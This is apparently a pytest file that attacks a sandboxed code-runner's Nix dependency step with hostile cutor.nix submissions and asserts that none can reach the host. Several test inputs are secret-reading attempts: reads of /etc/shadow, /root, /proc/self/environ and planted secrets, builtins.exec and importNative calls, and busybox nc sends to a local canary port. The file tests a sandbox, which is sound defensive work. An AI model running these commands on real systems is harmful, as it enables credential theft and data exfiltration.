"""Dependency step: a hostile cutor.nix gets nothing of the host and runs nothing on it.

Evaluation runs on the host (restricted mode, as the Nix user), builds run in
nix-daemon's sandbox, and shellHook runs in the submission's container. Evaluation and
builds do not depend on the container runtime, so those tests use the runc stack only.
Each expression that reads a secret puts it into a derivation attribute that the build
prints, so a read that succeeded would show up in the build log of the result.
"""

from __future__ import annotations

import json
import secrets
from pathlib import Path
from typing import Any

from tests.attacks.conftest import Canary, Planted, run_all
from tests.conftest import Stack


def nix_body(cutor_nix: str, run_sh: str = "echo ran") -> dict[str, Any]:
    return {"files": [{"name": "run.sh", "content": run_sh},
                      {"name": "cutor.nix", "content": cutor_nix}]}


def carrying(token: str, expression: str, extra: str = "") -> str:
    """Return a cutor.nix whose derivation prints the value of ``expression`` when built."""
    return f"""[ (derivation {{
      name = "leak-{token}"; system = builtins.currentSystem; builder = "/bin/sh";
      args = [ "-c" "echo leaked: $leak; touch $out" ];
      leak = {expression};
      {extra}
    }}) ]"""


def evaluation_attacks(planted: Planted, marker: Path) -> dict[str, str]:
    """Return Nix expressions that try to reach the host during evaluation, by name."""
    tmp_secret, root_secret, etc_secret = planted.paths
    folder = tmp_secret.parent
    return {
        "readFile tmp": f"builtins.readFile {tmp_secret}",
        "readFile root": f"builtins.readFile {root_secret}",
        "import etc": f"import {etc_secret}",
        # During evaluation cutor.nix is in a folder in /tmp, next to the planted
        # folder, and `..` must not lead out of it.
        "search path escape": f"builtins.readFile <cutor-submission/../{folder.name}/secret>",
        "nixpkgs": "(import <nixpkgs> { }).hello",
        "nix path entry": 'builtins.toJSON (builtins.findFile builtins.nixPath "nixpkgs")',
        "proc environ": "builtins.readFile /proc/self/environ",
        "readDir root": "builtins.toJSON (builtins.readDir /root)",
        "fetchurl file": f'builtins.readFile (builtins.fetchurl "file://{tmp_secret}")',
        "path copy": f"builtins.readFile ((builtins.path {{ path = {folder}; }}) + /secret)",
        "exec": f'builtins.exec [ "touch" "{marker}" ]',
        "importNative": 'builtins.importNative /lib/x86_64-linux-gnu/libc.so.6 "system"',
        "import from derivation": f"""import (derivation {{
            name = "ifd-{marker.name}"; system = builtins.currentSystem; builder = "/bin/sh";
            args = [ "-c" "touch {marker}; echo '\\"ifd\\"' > $out" ]; }})""",
    }


def test_evaluation_reads_and_runs_nothing(runc_stack: Stack, planted: Planted) -> None:
    token = secrets.token_hex(6)
    marker = Path(f"/tmp/cutor-pwned-eval-{token}")
    attacks = evaluation_attacks(planted, marker)
    bodies = [nix_body(carrying(f"{token}-{index}", expression))
              for index, expression in enumerate(attacks.values())]
    results = run_all(runc_stack, bodies)

    for name, result in zip(attacks, results, strict=True):
        assert result["status"] == "DEPENDENCIES_FAILED", (name, result)
        assert planted.secret not in json.dumps(result), name
        assert "leaked:" not in result["dependencies"]["stdout"], name
        assert result["run"] is None, name
    assert not marker.exists()


def test_build_sees_no_host(runc_stack: Stack, planted: Planted, canary: Canary) -> None:
    token = secrets.token_hex(6)
    marker = Path(f"/tmp/cutor-pwned-build-{token}")
    reads = " ".join(str(path) for path in planted.paths)
    script = (
        f"cat {reads} /etc/shadow /root/.profile; ls -a /root /home /var/run; "
        f"touch {marker}; echo build-{token} | busybox nc -w 2 127.0.0.1 {canary.port}; "
        "echo done > $out"
    )
    cutor_nix = f"""[ (derivation {{
      name = "snoop-{token}"; system = builtins.currentSystem; builder = "/bin/sh";
      args = [ "-c" "{script}" ];
    }}) ]"""
    result = runc_stack.run(nix_body(cutor_nix))

    assert result["status"] == "FINISHED", result
    assert f"snoop-{token}" in result["dependencies"]["stdout"]
    assert planted.secret not in json.dumps(result)
    assert not marker.exists()
    assert canary.received == []


def test_fixed_output_build_has_no_network(runc_stack: Stack, canary: Canary) -> None:
    token = secrets.token_hex(6)
    script = f"echo fixed-output-{token} | busybox nc -w 2 127.0.0.1 {canary.port}; touch $out"
    cutor_nix = f"""[ (derivation {{
      name = "download-{token}"; system = builtins.currentSystem; builder = "/bin/sh";
      args = [ "-c" "{script}" ];
      outputHashMode = "flat"; outputHashAlgo = "sha256";
      outputHash = "0000000000000000000000000000000000000000000000000000";
    }}) ]"""
    result = runc_stack.run(nix_body(cutor_nix))

    assert result["status"] == "DEPENDENCIES_FAILED", result
    assert "fixed-output derivations would download" in result["dependencies"]["stderr"]
    assert canary.received == []


def test_shell_hook_runs_only_in_sandbox(stack: Stack, planted: Planted) -> None:
    token = secrets.token_hex(6)
    marker = Path(f"/tmp/cutor-pwned-{token}")
    cutor_nix = f"""derivation {{
      name = "hook-{token}"; system = builtins.currentSystem; builder = "/bin/sh";
      shellHook = ''
        touch {marker}
        cat {planted.paths[0]} {planted.paths[1]} 2>/dev/null
        echo hook-ran-{token}
      '';
    }}"""
    result = stack.run(nix_body(cutor_nix, f"ls /tmp | grep -c cutor-pwned-{token}"))

    assert result["status"] == "FINISHED", result
    assert result["run"]["stdout"] == f"hook-ran-{token}\n1\n"
    assert planted.secret not in json.dumps(result)
    assert not marker.exists()
